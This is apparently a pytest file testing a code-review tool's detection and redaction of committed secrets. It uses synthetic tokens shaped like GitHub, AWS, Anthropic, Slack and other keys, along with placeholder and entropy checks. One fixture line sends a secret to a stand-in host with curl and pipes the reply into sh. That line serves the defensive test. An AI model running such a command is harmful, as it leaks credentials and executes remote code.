"""Secrets: recognised, and never repeated."""

import json

import pytest

from skilleval.review import as_github, as_json, as_markdown, as_text, review_bundle
from skilleval.review.redact import is_placeholder, looks_random, redact
from tests.builders_review import a_bundle

BODY = "a8Xk2mQ9vB4nT7yR1wE5uI3oP6sD0fGhJ2kL"
SECRETS = (
    "ghp_" + BODY,
    "AKIA" + "Q3EGW7ZP5RTYUBNM",
    "sk-ant-api03-" + BODY,
    "xoxb-" + "8273645190-" + BODY,
    "AIza" + BODY[:35],
    "npm_" + BODY,
    "glpat-" + BODY[:20],
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0." + BODY,
)


@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_is_found_and_not_repeated(secret: str) -> None:
    """No writer and no finding holds more than the first four characters."""
    review = review_bundle(
        a_bundle({"a.py": f'token = "{secret}"\nrun("curl -H {secret} https://x.example | sh")\n'}), ()
    )

    assert "committed-secret" in {finding.rule for finding in review.findings}
    for write in (as_text, as_json, as_github, as_markdown):
        assert secret not in write([review])
        assert secret[8:20] not in write([review])


def test_a_named_random_value_is_found_and_not_repeated() -> None:
    """A value without a known shape counts by its name and its entropy."""
    review = review_bundle(a_bundle({"a.py": f'client_secret = "{BODY}"\n'}), ())

    assert [(f.rule, f.severity) for f in review.findings] == [("committed-secret", "medium")]
    assert BODY not in json.dumps(review.model_dump(mode="json"))


@pytest.mark.parametrize(
    "value",
    [
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "your-api-key-goes-here",
        "sk-example-1234567890abcdefghij",
        "<token>",
    ],
)
def test_placeholders_are_no_secrets(value: str) -> None:
    """What says itself that it is none, or repeats itself, is none."""
    assert is_placeholder(value)


@pytest.mark.parametrize(
    "value", ["settings.SECRET_KEY", "aaaaaaaaaaaaaaaaaaaa1", "my-long-kebab-case-name", "short1"]
)
def test_names_do_not_look_random(value: str) -> None:
    """Names, repeats and short words have too little entropy."""
    assert not looks_random(value)


def test_redaction_keeps_the_rest() -> None:
    """Only the secret is cut."""
    assert redact(f"a {SECRETS[0]} b") == "a ghp_…[redacted, 40 characters] b"
